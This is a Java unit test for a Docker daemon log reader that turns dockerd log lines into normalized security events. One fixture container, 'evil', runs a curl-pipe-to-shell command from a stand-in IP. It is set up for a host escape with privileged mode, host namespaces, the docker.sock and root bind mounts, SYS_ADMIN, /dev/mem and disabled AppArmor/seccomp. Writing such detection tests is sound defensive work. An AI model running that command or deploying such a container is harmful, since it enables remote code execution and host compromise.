package io.keelwatch.source;

import com.fasterxml.jackson.databind.JsonNode;
import io.keelwatch.event.Event;
import io.keelwatch.event.FieldPath;
import io.keelwatch.event.Fields;
import io.keelwatch.event.Times;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class DockerdLogReaderTest {
    private static final String CID = "3f1c2b9a8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b";
    private static final String EXEC = "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b";
    private final DockerdLogReader reader = new DockerdLogReader();

    private ReaderHarness.Result daemon() {
        return ReaderHarness.readFixture(reader, DockerdLogReaderTest.class, "daemon.log");
    }

    @Test
    void everyLineIsAnEventOrARejectionAndFormsAreAttached() {
        ReaderHarness.Result r = daemon();
        assertThat(r.events()).extracting(e -> e.origin().line())
                .containsExactly(1L, 2L, 3L, 5L, 7L, 9L, 11L, 13L, 15L, 16L);
        assertThat(r.events()).extracting(Event::action).containsExactly("log", "ping", "container_create",
                "exec_create", "exec_start", "log", "container_create", "container_list", "log", "container_delete");
        assertThat(r.rejections()).extracting(x -> x.origin().line()).containsExactly(10L, 12L, 14L);
        assertThat(r.rejections()).allSatisfy(x -> assertThat(x.origin().file()).endsWith("daemon.log"));
        assertThat(r.reasons().get(0)).startsWith("not a dockerd log line");
        assertThat(r.reasons().get(1)).contains("form data of the API call on line 11 is not valid JSON");
        assertThat(r.reasons().get(2)).contains("time");
    }

    @Test
    void logLines() {
        Event first = daemon().events().get(0);
        assertThat(first.timeNanos()).isEqualTo(Times.parse("2025-01-01T10:00:00.000000001Z"));
        assertThat(first.string(Fields.EVENT_KIND)).isEqualTo("log");
        assertThat(first.string(Fields.LOG_LEVEL)).isEqualTo("info");
        assertThat(first.string(Fields.MESSAGE)).isEqualTo("Starting up");
        Event exec = daemon().events().get(5);
        assertThat(exec.string(Fields.DOCKER_EXEC_ID)).isEqualTo(EXEC);
        assertThat(exec.string(Fields.CONTAINER_ID)).isEqualTo(CID);
        Event warn = daemon().events().get(8);
        assertThat(warn.string(Fields.LOG_LEVEL)).isEqualTo("warning");
        assertThat(warn.string(Fields.CONTAINER_ID)).isEqualTo(CID);
        assertThat(FieldPath.parse("module").first(warn)).isEqualTo("health");
    }

    @Test
    void pingWithoutVersion() {
        Event ping = daemon().events().get(1);
        assertThat(ping.string(Fields.EVENT_KIND)).isEqualTo("api");
        assertThat(ping.string(Fields.HTTP_METHOD)).isEqualTo("HEAD");
        assertThat(ping.string(Fields.URL_PATH)).isEqualTo("/_ping");
        assertThat(ping.string(Fields.API_VERSION)).isNull();
        assertThat(ping.string(Fields.LOG_LEVEL)).isEqualTo("debug");
    }

    @Test
    void containerCreateIsNormalizedFromItsForm() {
        Event c = daemon().events().get(2);
        assertThat(c.timeNanos()).isEqualTo(Times.parse("2025-01-01T10:00:02.123456789Z"));
        assertThat(c.string(Fields.EVENT_KIND)).isEqualTo("api");
        assertThat(c.string(Fields.HTTP_METHOD)).isEqualTo("POST");
        assertThat(c.string(Fields.URL_PATH)).isEqualTo("/v1.43/containers/create");
        assertThat(c.string(Fields.URL_ORIGINAL)).isEqualTo("/v1.43/containers/create?name=evil");
        assertThat(c.string(Fields.API_VERSION)).isEqualTo("1.43");
        assertThat(c.string(Fields.CONTAINER_NAME)).isEqualTo("evil");
        assertThat(c.string(Fields.CONTAINER_IMAGE)).isEqualTo("alpine:3.19");
        assertThat(c.string(Fields.CONTAINER_COMMAND_LINE)).isEqualTo("/bin/sh -c curl -s http://203.0.113.7/x.sh | sh");
        assertThat(c.field(Fields.CONTAINER_PRIVILEGED)).isEqualTo(true);
        assertThat(c.field(Fields.CONTAINER_HOST_PATHS)).isEqualTo(List.of("/var/run/docker.sock", "/", "/etc"));
        assertThat(c.field(Fields.CONTAINER_HOST_PID)).isEqualTo(true);
        assertThat(c.field(Fields.CONTAINER_HOST_NETWORK)).isEqualTo(true);
        assertThat(c.field(Fields.CONTAINER_HOST_IPC)).isEqualTo(true);
        assertThat(c.field(Fields.CONTAINER_CAP_ADD)).isEqualTo(List.of("SYS_ADMIN"));
        assertThat(c.field(Fields.CONTAINER_DEVICES)).isEqualTo(List.of("/dev/mem"));
        assertThat(c.field(Fields.CONTAINER_SECURITY_OPT)).isEqualTo(List.of("apparmor=unconfined", "seccomp=unconfined"));
        assertThat(c.string(Fields.CONTAINER_LOG_DRIVER)).isEqualTo("none");
        assertThat(c.field(Fields.CONTAINER_AUTO_REMOVE)).isEqualTo(true);
        assertThat(c.field(Fields.CONTAINER_LABELS)).isEqualTo(Map.of("purpose", "debug"));
        assertThat(c.string(Fields.CONTAINER_NETWORK_MODE)).isEqualTo("host");

        JsonNode raw = c.raw();
        assertThat(raw.isObject()).isTrue();
        assertThat(raw.path("time").asText()).isEqualTo("2025-01-01T10:00:02.123456789Z");
        assertThat(raw.path("level").asText()).isEqualTo("debug");
        assertThat(raw.path("msg").asText()).startsWith("Calling POST");
        assertThat(raw.path("method").asText()).isEqualTo("POST");
        assertThat(raw.path("path").asText()).isEqualTo("/v1.43/containers/create");
        assertThat(raw.path("query").path("name").asText()).isEqualTo("evil");
        assertThat(raw.path("api_version").asText()).isEqualTo("1.43");
        assertThat(raw.path("form").path("HostConfig").path("Privileged").asBoolean()).isTrue();
        assertThat(FieldPath.parse("form.HostConfig.Binds").values(c)).contains("/:/host:ro");
    }

    @Test
    void execCreateAndStart() {
        List<Event> ev = daemon().events();
        Event create = ev.get(3);
        assertThat(create.action()).isEqualTo("exec_create");
        assertThat(create.string(Fields.CONTAINER_NAME)).isEqualTo("evil");
        assertThat(create.field(Fields.PROCESS_ARGS)).isEqualTo(List.of("netstat", "-tuln"));
        assertThat(create.string(Fields.PROCESS_COMMAND_LINE)).isEqualTo("netstat -tuln");
        assertThat(create.string(Fields.PROCESS_NAME)).isEqualTo("netstat");
        assertThat(create.field(Fields.PROCESS_PRIVILEGED)).isEqualTo(true);
        assertThat(create.string(Fields.PROCESS_USER)).isEqualTo("root");
        Event start = ev.get(4);
        assertThat(start.action()).isEqualTo("exec_start");
        assertThat(start.string(Fields.DOCKER_EXEC_ID)).isEqualTo(EXEC);
        assertThat(start.raw().path("form").path("Detach").isBoolean()).isTrue();
    }

    @Test
    void badFormKeepsTheCallWithoutIt() {
        Event broken = daemon().events().get(6);
        assertThat(broken.action()).isEqualTo("container_create");
        assertThat(broken.string(Fields.CONTAINER_NAME)).isEqualTo("broken");
        assertThat(broken.raw().has("form")).isFalse();
        assertThat(broken.field(Fields.CONTAINER_PRIVILEGED)).isNull();
    }

    @Test
    void queryIsDecodedAndZonesAreHonoured() {
        Event list = daemon().events().get(7);
        assertThat(list.timeNanos()).isEqualTo(Times.parse("2025-01-01T12:00:05Z"));
        assertThat(list.raw().path("query").path("filters").asText()).isEqualTo("{\"label\":[\"ci\"]}");
        Event delete = daemon().events().get(9);
        assertThat(delete.string(Fields.CONTAINER_ID)).isEqualTo("3f1c2b9a8e7d");
        assertThat(delete.string(Fields.HTTP_METHOD)).isEqualTo("DELETE");
    }

    @Test
    void jsonAndDesktopForms() {
        ReaderHarness.Result json = ReaderHarness.readFixture(reader, DockerdLogReaderTest.class, "daemon-json.log");
        assertThat(json.events()).extracting(Event::action).containsExactly("log", "container_create", "log");
        assertThat(json.rejections()).extracting(x -> x.origin().line()).containsExactly(4L, 6L);
        Event create = json.events().get(1);
        assertThat(create.string(Fields.CONTAINER_NAME)).isEqualTo("job");
        assertThat(create.string(Fields.CONTAINER_IMAGE)).isEqualTo("busybox");
        assertThat(create.string(Fields.CONTAINER_COMMAND_LINE)).isEqualTo("sleep 5");
        assertThat(create.field(Fields.CONTAINER_PRIVILEGED)).isEqualTo(false);
        assertThat(create.raw().path("form").path("Image").asText()).isEqualTo("busybox");

        ReaderHarness.Result desk = ReaderHarness.readFixture(reader, DockerdLogReaderTest.class, "desktop.log");
        assertThat(desk.rejections()).isEmpty();
        assertThat(desk.events()).extracting(Event::action).containsExactly("container_start", "log");
        assertThat(desk.events().get(0).string(Fields.CONTAINER_NAME)).isEqualTo("job");
        assertThat(desk.events().get(0).timeNanos()).isEqualTo(Times.parse("2025-02-01T09:00:03.000000001Z"));
        assertThat(desk.events().get(1).timeNanos()).isEqualTo(Times.parse("2025-02-01T09:00:04Z"));
    }

    @Test
    void actionsFromPaths() {
        assertThat(DockerApiCall.action("GET", List.of("containers", "web", "json"))).isEqualTo("container_inspect");
        assertThat(DockerApiCall.action("POST", List.of("containers", "web", "start"))).isEqualTo("container_start");
        assertThat(DockerApiCall.action("PUT", List.of("containers", "web", "archive"))).isEqualTo("container_archive_put");
        assertThat(DockerApiCall.action("GET", List.of("info"))).isEqualTo("info");
        assertThat(DockerApiCall.action("GET", List.of("version"))).isEqualTo("version");
        assertThat(DockerApiCall.action("POST", List.of("networks", "create"))).isEqualTo("network_create");
        assertThat(DockerApiCall.action("GET", List.of("networks", "appnet"))).isEqualTo("network_inspect");
        assertThat(DockerApiCall.action("POST", List.of("networks", "appnet", "connect"))).isEqualTo("network_connect");
        assertThat(DockerApiCall.action("DELETE", List.of("networks", "appnet"))).isEqualTo("network_delete");
        assertThat(DockerApiCall.action("POST", List.of("images", "create"))).isEqualTo("image_create");
        assertThat(DockerApiCall.action("GET", List.of("images", "library", "alpine", "json"))).isEqualTo("image_inspect");
        assertThat(DockerApiCall.action("DELETE", List.of("images", "alpine:3"))).isEqualTo("image_delete");
        assertThat(DockerApiCall.action("GET", List.of("exec", "abc", "json"))).isEqualTo("exec_inspect");
        assertThat(DockerApiCall.action("GET", List.of("volumes"))).isEqualTo("volume_list");
        assertThat(DockerApiCall.action("POST", List.of("swarm", "init"))).isEqualTo("swarm_init");
        assertThat(DockerApiCall.action("GET", List.of("system", "df"))).isEqualTo("system_df");
        assertThat(DockerApiCall.action("POST", List.of("build"))).isEqualTo("image_build");
        assertThat(DockerApiCall.action("GET", List.of("we!rd"))).isEqualTo("get_we_rd");
        assertThat(DockerApiCall.action("GET", List.of())).isEqualTo("get_root");
    }

    @Test
    void logfmtParsing() {
        var o = LogfmtLine.parse("Nov 23 host dockerd[12]: time=\"t\" level=info msg=\"a \\\"quoted\\\" \\u00e9\\n\" bare=1 word \"unterminated");
        assertThat(o).isNotNull();
        assertThat(o.path("_prefix").asText()).isEqualTo("Nov 23 host dockerd[12]:");
        assertThat(o.path("msg").asText()).isEqualTo("a \"quoted\" \u00e9\n");
        assertThat(o.path("bare").asText()).isEqualTo("1");
        assertThat(o.path("_text").asText()).isEqualTo("word unterminated");
        assertThat(LogfmtLine.parse("no pairs here")).isNull();
        assertThat(LogfmtLine.parse("xtime=1 notlevel=2")).isNull();
    }

    @Test
    void sniff() {
        assertThat(reader.sniff(ReaderHarness.head(DockerdLogReaderTest.class, "daemon.log"))).isGreaterThanOrEqualTo(90);
        assertThat(reader.sniff(ReaderHarness.head(DockerdLogReaderTest.class, "daemon-json.log"))).isGreaterThan(0);
        assertThat(reader.sniff(ReaderHarness.head(DockerdLogReaderTest.class, "desktop.log"))).isGreaterThanOrEqualTo(90);
        assertThat(reader.sniff(ReaderHarness.headOf("{\"kind\":\"Event\",\"verb\":\"get\"}"))).isZero();
        assertThat(reader.sniff(ReaderHarness.headOf("#separator \\x09\n#fields\tts\tuid\n"))).isZero();
    }
}
